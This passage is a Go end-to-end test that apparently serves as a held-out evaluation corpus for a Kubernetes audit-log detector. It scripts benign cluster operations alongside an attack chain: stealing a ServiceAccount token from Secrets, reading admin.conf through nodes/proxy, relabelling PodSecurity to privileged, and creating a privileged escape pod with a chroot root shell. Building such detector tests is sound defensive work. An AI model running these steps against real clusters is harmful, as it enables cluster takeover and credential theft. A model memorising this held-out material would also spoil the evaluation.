package e2e

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"os"
	"sort"
	"strings"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	batchv1 "k8s.io/api/batch/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	policyv1 "k8s.io/api/policy/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/util/retry"

	"github.com/apiguard/apiguard/test/e2e/lab"
)

// TestAuditHeldOut4 is the fourth held-out evaluation corpus of `apiguard
// audit scan`: a scripted day on a shared cluster during which an attacker
// who got code execution in a web application pod climbs from the pod's
// ServiceAccount through RBAC misconfigurations to the control-plane node and
// then to cluster-admin, persists, moves laterally, covers tracks and does
// damage, while operators, controllers, SREs and CI keep working.
//
// Held-out method: the scenario (testdata/heldout4/README.md has the
// playbook and its public sources) was written from public attack knowledge
// (Stratus Red Team, Microsoft's threat matrix for Kubernetes, MITRE ATT&CK
// Containers, KubeHound, Bad Pods, Peirates, the Kubernetes RBAC good
// practices, incident write-ups) without reading the detector's rules, its
// documentation or the earlier corpora, and was not changed after its results
// were seen (except for steps that failed to execute, see the README). Every
// step runs against the real kube-apiserver of the Hardened lab; the audit
// IDs the server returns tie each audit event to the step that caused it.
//
// Measures, logged and optionally written as JSON to $APIGUARD_HELDOUT_OUT:
// the detection rate (attack steps with at least one alert on their own
// requests, over attack steps) and the high or critical alerts raised on
// benign steps. Neither is asserted; the test asserts only that every step
// executed as intended (allowed, refused, or failing after authorization as
// the script says) and reached the audit log.
func TestAuditHeldOut4(t *testing.T) {
	start := time.Now()
	c := lab.Start(t, lab.Hardened)
	c.WaitAggregated(t)
	ctx, cancel := context.WithTimeout(context.Background(), 8*time.Minute)
	defer cancel()

	rec := &auditRecorder{steps: map[string]string{}}
	suCfg := lab.RESTConfig(t, c.SuperAdminKubeconfig) // setup only: not recorded
	suCfg.WarningHandler = rest.NoWarnings{}
	su, err := kubernetes.NewForConfig(suCfg)
	if err != nil {
		t.Fatal(err)
	}
	id := h4Setup(ctx, t, c, su)

	// Identities. Source addresses stand for: the web pod (h4PodIP), the
	// control-plane node (h4NodeIP), the attacker's own host on the internet
	// (h4AttackerIP), CI runners, operator pods and staff on the VPN.
	tokenCfg := func(name, token string) *rest.Config {
		return lab.RESTConfig(t, c.TokenKubeconfig(t, name, token))
	}
	certCfg := func(user string, groups ...string) *rest.Config {
		return lab.RESTConfig(t, c.UserKubeconfig(t, user, groups...))
	}
	mk := func(base *rest.Config, ip, ua string, mod func(*rest.Config)) (kubernetes.Interface, dynamic.Interface) {
		return h4Client(t, rec, base, ip, ua, mod)
	}

	// Benign identities.
	helm, _ := mk(tokenCfg("ci-helm", id.tokens["ci/helm"]), "127.30.0.5", h4UAHelm, nil)
	deployer, _ := mk(tokenCfg("ci-deployer", id.tokens["ci/deployer"]), "127.30.0.5", h4UAKubectl, nil)
	argocd, _ := mk(tokenCfg("argocd", id.tokens["argocd/argocd-application-controller"]), "127.10.1.10", "argocd-application-controller/v2.13.1+af54ef8 (linux/amd64)", nil)
	prom, _ := mk(tokenCfg("prometheus", id.tokens["monitoring/prometheus-k8s"]), "127.10.1.40", "Prometheus/2.54.1", nil)
	ksmProxy, _ := mk(tokenCfg("ksm-rbac-proxy", id.tokens["monitoring/kube-state-metrics"]), "127.10.1.41", "kube-rbac-proxy/v0.18.1 (linux/amd64)", nil)
	certmgr, _ := mk(tokenCfg("cert-manager", id.tokens["cert-manager/cert-manager"]), "127.10.1.20", "cert-manager-certificates-issuing/v1.16.1 (linux/amd64) cert-manager/9a4e7d5b", nil)
	cainjector, _ := mk(tokenCfg("cainjector", id.tokens["cert-manager/cert-manager-cainjector"]), "127.10.1.21", "cainjector/v1.16.1 (linux/amd64) cert-manager/9a4e7d5b", nil)
	eso, _ := mk(tokenCfg("external-secrets", id.tokens["external-secrets/external-secrets"]), "127.10.1.30", "external-secrets/v0.10.4 (linux/amd64)", nil)
	vault, _ := mk(tokenCfg("vault", id.tokens["vault/vault"]), "127.10.1.50", "Go-http-client/2.0", nil)
	dbop, _ := mk(tokenCfg("db-operator", id.tokens["databases/db-operator"]), "127.10.1.60", "cloudnative-pg/v1.24.1 (linux/amd64)", nil)
	velero, _ := mk(tokenCfg("velero", id.tokens["velero/velero"]), "127.10.1.70", "velero-server/v1.14.1 (linux/amd64) 8afe3cea", nil)
	platform, _ := mk(tokenCfg("platform-ci", id.tokens["platform/platform-ci"]), "127.30.0.6", h4UAHelm, nil)
	hpa, _ := mk(tokenCfg("hpa", id.tokens["kube-system/horizontal-pod-autoscaler"]), "", "kube-controller-manager/v1.36.3 (linux/amd64) kubernetes/$Format/system:serviceaccount:kube-system:horizontal-pod-autoscaler", nil)
	alice, _ := mk(certCfg("alice@example.com", "sre"), "127.40.0.11", h4UAKubectl, nil)
	dana, _ := mk(certCfg("dana@example.com", "sec-auditors"), "127.40.0.12", h4UAKubectl, nil)
	bob, _ := mk(certCfg("bob@example.com", "team-shop"), "127.40.0.13", h4UAKubectl, nil)

	// Attacker identities. The web pod's mounted token (bound to its pod).
	thumbCurl, _ := mk(tokenCfg("thumbnailer", id.tokens["media/thumbnailer"]), h4PodIP, "curl/8.5.0", nil)
	thumb, _ := mk(tokenCfg("thumbnailer", id.tokens["media/thumbnailer"]), h4PodIP, h4UAKubectl, nil)
	// media-ops' legacy token, read from a Secret, used from the pod and
	// from the attacker's host.
	ops, _ := mk(tokenCfg("media-ops", id.mediaOpsToken), h4PodIP, h4UAKubectl, nil)
	opsOut, _ := mk(tokenCfg("media-ops", id.mediaOpsToken), h4AttackerIP, "python-requests/2.31.0", nil)
	// The control-plane node's kubelet credentials, taken from the host.
	node, _ := mk(certCfg("system:node:"+c.NodeName, "system:nodes"), h4NodeIP, h4UAKubectl, nil)
	// The kubeadm join token left in the node's bootstrap-kubelet.conf.
	bootstrapper, _ := mk(tokenCfg("tls-bootstrap", id.bootstrapToken), h4NodeIP, h4UAKubectl, nil)
	// /etc/kubernetes/admin.conf of the control-plane node, used from outside.
	admin, _ := mk(lab.RESTConfig(t, c.AdminKubeconfig), h4AttackerIP, h4UAKubectl, nil)
	adminAs, _ := mk(lab.RESTConfig(t, c.AdminKubeconfig), h4AttackerIP, h4UAKubectl, func(cfg *rest.Config) {
		cfg.Impersonate = rest.ImpersonationConfig{UserName: "system:serviceaccount:payments:payments-api"}
	})
	// Filled in by the steps that mint them.
	var backdoor kubernetes.Interface // client certificate from the approved CSR
	var backdoorDyn dynamic.Interface
	var kcToken string // long-lived token of kube-system/kube-controller
	var kc kubernetes.Interface

	anon := h4AnonHTTP(t, rec, c.CACertPath, h4PodIP)
	node0 := c.NodeName
	var csrKey []byte
	backdoorCSR := "csr-kube-apiserver-kubelet-client-7q2rd"

	steps := []h4Step{
		// ---------------- benign: morning operations ----------------
		{name: "B01-helm-install-shop-web", technique: "Helm install by CI", why: "CI's Helm installs the web chart in its team namespace",
			run: func(ctx context.Context) error {
				return h4HelmRelease(ctx, helm, "shop", "web", 1, func() error {
					var errs []error
					_, err := helm.CoreV1().ServiceAccounts("shop").Create(ctx, &corev1.ServiceAccount{ObjectMeta: h4Meta("shop", "web", h4HelmLabels("web"))}, metav1.CreateOptions{})
					errs = append(errs, h4Want(err, "ok", "create sa"))
					_, err = helm.CoreV1().ConfigMaps("shop").Create(ctx, &corev1.ConfigMap{ObjectMeta: h4Meta("shop", "web-config", h4HelmLabels("web")), Data: map[string]string{"LOG_LEVEL": "info"}}, metav1.CreateOptions{})
					errs = append(errs, h4Want(err, "ok", "create configmap"))
					_, err = helm.CoreV1().Services("shop").Create(ctx, h4Service("shop", "web", 8080), metav1.CreateOptions{})
					errs = append(errs, h4Want(err, "ok", "create service"))
					_, err = helm.AppsV1().Deployments("shop").Create(ctx, h4Deployment("shop", "web", "registry.example.com/shop/web:1.42.0", 2), metav1.CreateOptions{})
					errs = append(errs, h4Want(err, "ok", "create deployment"))
					return errors.Join(errs...)
				})
			}},
		{name: "B02-argocd-cluster-cache-sync", technique: "GitOps controller cache", why: "Argo CD (cluster-admin by design) lists every resource type in every namespace to build its cache",
			run: func(ctx context.Context) error { return h4ListEverything(ctx, argocd, 500) }},
		{name: "B03-argocd-sync-cart", technique: "GitOps server-side apply", why: "Argo CD applies the cart Deployment and Service from git",
			run: func(ctx context.Context) error {
				var errs []error
				for _, o := range []struct{ kind, res, name string }{{"Deployment", "deployments", "cart"}, {"Service", "services", "cart"}} {
					body := h4ApplyBody(o.kind, "shop", o.name)
					var err error
					if o.res == "deployments" {
						_, err = argocd.AppsV1().Deployments("shop").Patch(ctx, o.name, types.ApplyPatchType, body, h4Apply("argocd-controller"))
					} else {
						_, err = argocd.CoreV1().Services("shop").Patch(ctx, o.name, types.ApplyPatchType, body, h4Apply("argocd-controller"))
					}
					errs = append(errs, h4Want(err, "ok", "apply "+o.kind))
				}
				return errors.Join(errs...)
			}},
		{name: "B04-prometheus-service-discovery", technique: "monitoring service discovery", why: "Prometheus' kubernetes_sd lists nodes, pods, services, endpoints and EndpointSlices cluster-wide",
			run: func(ctx context.Context) error {
				var errs []error
				_, err := prom.CoreV1().Nodes().List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "nodes"))
				_, err = prom.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "pods"))
				_, err = prom.CoreV1().Services("").List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "services"))
				_, err = prom.CoreV1().Endpoints("").List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "endpoints"))
				_, err = prom.DiscoveryV1().EndpointSlices("").List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "endpointslices"))
				return errors.Join(errs...)
			}},
		{name: "B05-prometheus-scrape-kubelet", technique: "metrics through nodes/proxy", why: "Prometheus scrapes kubelet and cAdvisor metrics through the API server's node proxy",
			run: func(ctx context.Context) error {
				var errs []error
				for _, p := range []string{"metrics", "metrics/cadvisor", "metrics/probes"} {
					err := prom.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes/" + node0 + "/proxy/" + p).Do(ctx).Error()
					errs = append(errs, h4Want(err, "authorized", "proxy "+p))
				}
				return errors.Join(errs...)
			}},
		{name: "B06-prometheus-scrape-apiserver", technique: "metrics endpoint", why: "Prometheus scrapes the API server's /metrics",
			run: func(ctx context.Context) error {
				_, err := prom.Discovery().RESTClient().Get().AbsPath("/metrics").DoRaw(ctx)
				return h4Want(err, "ok", "/metrics")
			}},
		{name: "B07-cert-manager-issue-tls", technique: "certificate operator", why: "cert-manager writes the issued TLS Secret for the shop ingress and records an Event",
			run: func(ctx context.Context) error {
				crt, key := h4SelfSigned(t, "shop.example.com")
				s := &corev1.Secret{ObjectMeta: h4Meta("shop", "web-tls", map[string]string{"controller.cert-manager.io/fao": "true"}), Type: corev1.SecretTypeTLS,
					Data: map[string][]byte{"tls.crt": crt, "tls.key": key, "ca.crt": crt}}
				s.Annotations = map[string]string{"cert-manager.io/certificate-name": "web-tls", "cert-manager.io/issuer-name": "letsencrypt", "cert-manager.io/issuer-kind": "ClusterIssuer"}
				_, err := certmgr.CoreV1().Secrets("shop").Create(ctx, s, metav1.CreateOptions{})
				e1 := h4Want(err, "ok", "create tls secret")
				_, err = certmgr.CoreV1().Events("shop").Create(ctx, h4Event("shop", "web-tls", "Certificate", "Issuing", "The certificate has been successfully issued", "cert-manager-certificates-issuing"), metav1.CreateOptions{})
				return errors.Join(e1, h4Want(err, "ok", "event"))
			}},
		{name: "B08-cert-manager-cainjector", technique: "CA bundle injection", why: "cert-manager's cainjector refreshes the caBundle of its own webhook configuration",
			run: func(ctx context.Context) error {
				v, err := cainjector.AdmissionregistrationV1().ValidatingWebhookConfigurations().Get(ctx, "cert-manager-webhook", metav1.GetOptions{})
				if err != nil {
					return err
				}
				crt, _ := h4SelfSigned(t, "cert-manager-webhook-ca")
				v.Webhooks[0].ClientConfig.CABundle = crt
				_, err = cainjector.AdmissionregistrationV1().ValidatingWebhookConfigurations().Update(ctx, v, metav1.UpdateOptions{})
				return h4Want(err, "ok", "update caBundle")
			}},
		{name: "B09-auditor-get-all-namespaces", technique: "read-only review", why: "a security auditor (view) runs kubectl get across all namespaces",
			run: func(ctx context.Context) error {
				var errs []error
				_, err := dana.CoreV1().Namespaces().List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "namespaces"))
				_, err = dana.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "pods"))
				_, err = dana.AppsV1().Deployments("").List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "deployments"))
				_, err = dana.CoreV1().Services("").List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "services"))
				_, err = dana.CoreV1().ConfigMaps("").List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "configmaps"))
				_, err = dana.CoreV1().Events("").List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "events"))
				return errors.Join(errs...)
			}},
		{name: "B10-dev-read-pod-logs", technique: "developer troubleshooting", why: "a shop developer reads the logs of the report runner in the team's namespace",
			run: func(ctx context.Context) error {
				_, err := bob.CoreV1().Pods("shop").Get(ctx, "report-runner-28911", metav1.GetOptions{})
				e1 := h4Want(err, "ok", "get pod")
				err = bob.CoreV1().Pods("shop").GetLogs("report-runner-28911", &corev1.PodLogOptions{TailLines: h4Ptr(int64(200))}).Do(ctx).Error()
				return errors.Join(e1, h4Want(err, "authorized", "logs"))
			}},
		{name: "B11-sre-cordon-node", technique: "node maintenance", why: "an SRE cordons the node before kernel patching",
			run: func(ctx context.Context) error {
				_, err := alice.CoreV1().Nodes().Get(ctx, node0, metav1.GetOptions{})
				e1 := h4Want(err, "ok", "get node")
				_, err = alice.CoreV1().Nodes().Patch(ctx, node0, types.StrategicMergePatchType, []byte(`{"spec":{"unschedulable":true}}`), metav1.PatchOptions{})
				return errors.Join(e1, h4Want(err, "ok", "cordon"))
			}},
		{name: "B12-sre-drain-report-runner", technique: "node maintenance", why: "the SRE drains the node's batch pods (kubectl drain --pod-selector) through the Eviction API",
			run: func(ctx context.Context) error {
				pods, err := alice.CoreV1().Pods("").List(ctx, metav1.ListOptions{FieldSelector: "spec.nodeName=" + node0, LabelSelector: "app=report-runner"})
				if err != nil {
					return err
				}
				if len(pods.Items) == 0 {
					return fmt.Errorf("no report-runner pod on the node")
				}
				var errs []error
				for _, p := range pods.Items {
					err := alice.CoreV1().Pods(p.Namespace).EvictV1(ctx, &policyv1.Eviction{ObjectMeta: metav1.ObjectMeta{Name: p.Name, Namespace: p.Namespace}})
					errs = append(errs, h4Want(err, "ok", "evict "+p.Name))
				}
				return errors.Join(errs...)
			}},
		{name: "B13-sre-uncordon-node", technique: "node maintenance", why: "the SRE uncordons the node after the reboot",
			run: func(ctx context.Context) error {
				_, err := alice.CoreV1().Nodes().Patch(ctx, node0, types.StrategicMergePatchType, []byte(`{"spec":{"unschedulable":null}}`), metav1.PatchOptions{})
				return h4Want(err, "ok", "uncordon")
			}},

		// ---------------- attack phase 1: foothold in the web pod ----------------
		{attack: true, name: "A01-anonymous-apiserver-probe", technique: "T1613 discovery / exposed API probe (kube-hunter)", why: "from the web shell, curl the API server without credentials to see whether it answers anonymously",
			run: func(ctx context.Context) error {
				var errs []error
				for _, p := range []string{"/version", "/api/v1/namespaces", "/api/v1/namespaces/kube-system/secrets", "/apis"} {
					code, err := h4Get(ctx, anon, c.URL+p, "curl/8.5.0")
					if err != nil || code != http.StatusUnauthorized {
						errs = append(errs, fmt.Errorf("GET %s: %d %v, want 401", p, code, err))
					}
				}
				code, err := h4Get(ctx, anon, c.URL+"/healthz", "curl/8.5.0")
				if err != nil || code != http.StatusOK {
					errs = append(errs, fmt.Errorf("GET /healthz: %d %v, want 200", code, err))
				}
				return errors.Join(errs...)
			}},
		{attack: true, name: "A02-sa-token-whoami", technique: "T1528 use of the mounted ServiceAccount token (Peirates)", why: "read /var/run/secrets/.../token and ask the API server who it is",
			run: func(ctx context.Context) error {
				_, err := thumbCurl.AuthenticationV1().SelfSubjectReviews().Create(ctx, &authenticationv1.SelfSubjectReview{}, metav1.CreateOptions{})
				return h4Want(err, "ok", "selfsubjectreview")
			}},
		{attack: true, name: "A03-sa-permission-listing", technique: "T1069 permission discovery (kubectl auth can-i --list)", why: "list what the stolen token may do in its own and in system namespaces",
			run: func(ctx context.Context) error {
				var errs []error
				for _, ns := range []string{"media", "kube-system", "default"} {
					_, err := thumb.AuthorizationV1().SelfSubjectRulesReviews().Create(ctx, &authorizationv1.SelfSubjectRulesReview{Spec: authorizationv1.SelfSubjectRulesReviewSpec{Namespace: ns}}, metav1.CreateOptions{})
					errs = append(errs, h4Want(err, "ok", "ssrr "+ns))
				}
				return errors.Join(errs...)
			}},
		{attack: true, name: "A04-refused-cluster-scope-sweep", technique: "T1613 discovery sweep (refused)", why: "try cluster-scoped lists a web app never needs: nodes, namespaces, RBAC, CRDs",
			run: func(ctx context.Context) error {
				var errs []error
				_, err := thumb.CoreV1().Nodes().List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "forbidden", "nodes"))
				_, err = thumb.CoreV1().Namespaces().List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "forbidden", "namespaces"))
				_, err = thumb.RbacV1().ClusterRoleBindings().List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "forbidden", "clusterrolebindings"))
				_, err = thumb.RbacV1().ClusterRoles().List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "forbidden", "clusterroles"))
				err = thumb.Discovery().RESTClient().Get().AbsPath("/apis/apiextensions.k8s.io/v1/customresourcedefinitions").Do(ctx).Error()
				errs = append(errs, h4Want(err, "forbidden", "crds"))
				_, err = thumb.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "forbidden", "pods -A"))
				return errors.Join(errs...)
			}},
		{attack: true, name: "A05-refused-secret-sweep", technique: "T1552.007 container API credential hunt (refused)", why: "walk the namespaces asking for their Secrets",
			run: func(ctx context.Context) error {
				var errs []error
				for _, ns := range []string{"kube-system", "default", "payments", "monitoring", "security", "ci", "argocd", "vault"} {
					_, err := thumb.CoreV1().Secrets(ns).List(ctx, metav1.ListOptions{})
					errs = append(errs, h4Want(err, "forbidden", "secrets "+ns))
				}
				_, err := thumb.CoreV1().Secrets("").List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "forbidden", "secrets -A"))
				return errors.Join(errs...)
			}},
		{attack: true, name: "A06-dump-namespace-secrets", technique: "T1552.007 dump Secrets (Stratus k8s.credential-access.dump-secrets)", why: "the app's Role may list Secrets of its namespace: it returns media-ops' legacy token",
			run: func(ctx context.Context) error {
				l, err := thumb.CoreV1().Secrets("media").List(ctx, metav1.ListOptions{})
				if err != nil {
					return err
				}
				for _, s := range l.Items {
					if s.Name == "media-ops-token" && len(s.Data["token"]) > 0 {
						return nil
					}
				}
				return fmt.Errorf("media-ops-token not in the list")
			}},

		// ---------------- attack phase 2: media-ops' stolen token ----------------
		{attack: true, name: "A07-stolen-token-whoami", technique: "T1078.004 valid account (stolen SA token)", why: "check whose token it is and what it may do",
			run: func(ctx context.Context) error {
				_, err := ops.AuthenticationV1().SelfSubjectReviews().Create(ctx, &authenticationv1.SelfSubjectReview{}, metav1.CreateOptions{})
				e1 := h4Want(err, "ok", "ssr")
				_, err = ops.AuthorizationV1().SelfSubjectRulesReviews().Create(ctx, &authorizationv1.SelfSubjectRulesReview{Spec: authorizationv1.SelfSubjectRulesReviewSpec{Namespace: "media"}}, metav1.CreateOptions{})
				return errors.Join(e1, h4Want(err, "ok", "ssrr"))
			}},
		{attack: true, name: "A08-cluster-recon-nodes-pods", technique: "T1613 container and resource discovery", why: "map nodes, namespaces and every pod with the broader token",
			run: func(ctx context.Context) error {
				var errs []error
				_, err := ops.CoreV1().Nodes().List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "nodes"))
				_, err = ops.CoreV1().Namespaces().List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "namespaces"))
				_, err = ops.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "pods"))
				_, err = ops.CoreV1().Services("").List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "services"))
				return errors.Join(errs...)
			}},
		{attack: true, name: "A09-stolen-token-from-outside", technique: "T1550 use of a stolen token from an external host", why: "exfiltrate the never-expiring token and use it from the attacker's own machine",
			run: func(ctx context.Context) error {
				_, err := opsOut.CoreV1().Namespaces().List(ctx, metav1.ListOptions{})
				e1 := h4Want(err, "ok", "namespaces")
				_, err = opsOut.CoreV1().Nodes().Get(ctx, node0, metav1.GetOptions{})
				return errors.Join(e1, h4Want(err, "ok", "node"))
			}},
		{attack: true, name: "A10-refused-bind-cluster-admin", technique: "TA0004 RoleBinding to cluster-admin (refused by RBAC escalation check)", why: "with admin in its namespace, try binding cluster-admin there",
			run: func(ctx context.Context) error {
				_, err := ops.RbacV1().RoleBindings("media").Create(ctx, &rbacv1.RoleBinding{ObjectMeta: h4Meta("media", "media-ops-ca", nil),
					RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
					Subjects: []rbacv1.Subject{h4SA("media", "media-ops")}}, metav1.CreateOptions{})
				return h4WantMsg(err, "forbidden", "RBAC", "bind cluster-admin")
			}},
		{attack: true, name: "A11-kubelet-run-via-nodes-proxy", technique: "Stratus k8s.privilege-escalation.nodes-proxy / KubeHound", why: "nodes/proxy reaches the kubelet API: run cat admin.conf in the kube-apiserver static pod",
			run: func(ctx context.Context) error {
				err := ops.CoreV1().RESTClient().Post().AbsPath("/api/v1/nodes/"+node0+"/proxy/run/kube-system/kube-apiserver-"+node0+"/kube-apiserver").
					Param("cmd", "cat /etc/kubernetes/admin.conf").Do(ctx).Error()
				e1 := h4Want(err, "authorized", "proxy run")
				err = ops.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes/" + node0 + "/proxy/runningpods/").Do(ctx).Error()
				return errors.Join(e1, h4Want(err, "authorized", "proxy runningpods"))
			}},
		{attack: true, name: "A12-hostpath-pod-refused-by-psa", technique: "T1611 hostPath pod (Bad Pods 'hostpath', refused by PodSecurity)", why: "first try a pod mounting the node's / in the namespace; baseline PodSecurity refuses it",
			run: func(ctx context.Context) error {
				p := h4BadPod("media", "thumbnail-cache-fix", "", false)
				_, err := ops.CoreV1().Pods("media").Create(ctx, p, metav1.CreateOptions{})
				return h4WantMsg(err, "forbidden", "PodSecurity", "hostPath pod")
			}},
		{attack: true, name: "A13-relabel-namespace-privileged", technique: "T1562.001 weaken defences: PodSecurity label to privileged", why: "patch (granted for 'network policy labels') the namespace's enforce label to privileged",
			run: func(ctx context.Context) error {
				_, err := ops.CoreV1().Namespaces().Patch(ctx, "media", types.MergePatchType,
					[]byte(`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged","pod-security.kubernetes.io/warn":"privileged","pod-security.kubernetes.io/audit":"privileged"}}}`), metav1.PatchOptions{})
				time.Sleep(1500 * time.Millisecond) // the attacker's next command; PodSecurity reads namespaces from a cache
				return h4Want(err, "ok", "relabel")
			}},
		{attack: true, name: "A14-control-plane-escape-pod", technique: "T1611/T1610 everything-allowed pod pinned to the control-plane node (Bad Pods, Peirates)", why: "privileged, hostPID/hostNetwork/hostIPC, / mounted, nodeName set to the control-plane node, tolerating its taint",
			run: func(ctx context.Context) error {
				_, err := ops.CoreV1().Pods("media").Create(ctx, h4BadPod("media", "thumbnail-cache-warmup", node0, true), metav1.CreateOptions{})
				return h4Want(err, "ok", "escape pod")
			}},
		{attack: true, name: "A15-exec-into-escape-pod", technique: "T1609 container administration command", why: "exec chroot /host in the escape pod to get a root shell on the node",
			run: func(ctx context.Context) error {
				err := ops.CoreV1().RESTClient().Post().Namespace("media").Resource("pods").Name("thumbnail-cache-warmup").SubResource("exec").
					Param("container", "cache").Param("command", "chroot").Param("command", "/host").Param("command", "bash").
					Param("stdin", "true").Param("stdout", "true").Param("tty", "true").Do(ctx).Error()
				return h4Want(err, "authorized", "exec")
			}},

		// ---------------- benign: mid-day ----------------
		{name: "B14-platform-create-namespace", technique: "namespace provisioning", why: "platform CI creates the analytics namespace with restricted PodSecurity, a quota and the team's binding",
			run: func(ctx context.Context) error {
				var errs []error
				_, err := platform.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "analytics", Labels: map[string]string{
					"pod-security.kubernetes.io/enforce": "restricted", "pod-security.kubernetes.io/warn": "restricted", "team": "analytics"}}}, metav1.CreateOptions{})
				errs = append(errs, h4Want(err, "ok", "namespace"))
				_, err = platform.CoreV1().ResourceQuotas("analytics").Create(ctx, &corev1.ResourceQuota{ObjectMeta: h4Meta("analytics", "compute", nil),
					Spec: corev1.ResourceQuotaSpec{Hard: corev1.ResourceList{corev1.ResourceRequestsCPU: h4Qty("8"), corev1.ResourceRequestsMemory: h4Qty("16Gi")}}}, metav1.CreateOptions{})
				errs = append(errs, h4Want(err, "ok", "quota"))
				_, err = platform.RbacV1().RoleBindings("analytics").Create(ctx, &rbacv1.RoleBinding{ObjectMeta: h4Meta("analytics", "team-analytics-edit", nil),
					RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "edit"}, Subjects: []rbacv1.Subject{h4Group("team-analytics")}}, metav1.CreateOptions{})
				errs = append(errs, h4Want(err, "ok", "rolebinding"))
				return errors.Join(errs...)
			}},
		{name: "B15-ci-deploy-image-bump", technique: "CI deploy", why: "the CI pipeline sets a new image on shop/web and follows the rollout",
			run: func(ctx context.Context) error {
				_, err := deployer.AppsV1().Deployments("shop").Patch(ctx, "web", types.StrategicMergePatchType,
					[]byte(`{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"registry.example.com/shop/web:1.43.0"}]}}}}`), metav1.PatchOptions{FieldManager: "kubectl-set"})
				e1 := h4Want(err, "ok", "set image")
				var errs []error
				for range 3 {
					_, err := deployer.AppsV1().Deployments("shop").Get(ctx, "web", metav1.GetOptions{})
					errs = append(errs, h4Want(err, "ok", "rollout status"))
				}
				return errors.Join(append(errs, e1)...)
			}},
		{name: "B16-ci-db-migration-job", technique: "CI deploy", why: "the pipeline runs the schema migration Job",
			run: func(ctx context.Context) error {
				_, err := deployer.BatchV1().Jobs("shop").Create(ctx, h4Job("shop", "db-migrate-1043"), metav1.CreateOptions{})
				e1 := h4Want(err, "ok", "job")
				_, err = deployer.BatchV1().Jobs("shop").Get(ctx, "db-migrate-1043", metav1.GetOptions{})
				return errors.Join(e1, h4Want(err, "ok", "get job"))
			}},
		{name: "B17-hpa-scale-web", technique: "autoscaling controller", why: "the HPA controller scales shop/web from 2 to 4 replicas",
			run: func(ctx context.Context) error {
				return h4Scale(ctx, hpa, "shop", "web", 4)
			}},
		{name: "B18-external-secrets-refresh", technique: "secrets operator", why: "external-secrets rotates the payments DB password from the vault and creates the analytics warehouse credentials",
			run: func(ctx context.Context) error {
				s, err := eso.CoreV1().Secrets("payments").Get(ctx, "db-credentials", metav1.GetOptions{})
				if err != nil {
					return err
				}
				s.Data["password"] = []byte("rotated-" + fmt.Sprint(time.Now().Unix()))
				_, err = eso.CoreV1().Secrets("payments").Update(ctx, s, metav1.UpdateOptions{})
				e1 := h4Want(err, "ok", "update")
				_, err = eso.CoreV1().Secrets("analytics").Create(ctx, &corev1.Secret{ObjectMeta: h4Meta("analytics", "warehouse-creds", map[string]string{"reconcile.external-secrets.io/managed": "true"}),
					Data: map[string][]byte{"user": []byte("analytics"), "password": []byte("s3cr3t")}}, metav1.CreateOptions{})
				return errors.Join(e1, h4Want(err, "ok", "create"))
			}},
		{name: "B19-kube-rbac-proxy-authz", technique: "delegated authn/authz", why: "kube-rbac-proxy in front of kube-state-metrics checks Prometheus' token and its right to GET /metrics",
			run: func(ctx context.Context) error {
				_, err := ksmProxy.AuthenticationV1().TokenReviews().Create(ctx, &authenticationv1.TokenReview{Spec: authenticationv1.TokenReviewSpec{Token: id.tokens["monitoring/prometheus-k8s"]}}, metav1.CreateOptions{})
				e1 := h4Want(err, "ok", "tokenreview")
				_, err = ksmProxy.AuthorizationV1().SubjectAccessReviews().Create(ctx, &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
					User: "system:serviceaccount:monitoring:prometheus-k8s", Groups: []string{"system:serviceaccounts", "system:serviceaccounts:monitoring", "system:authenticated"},
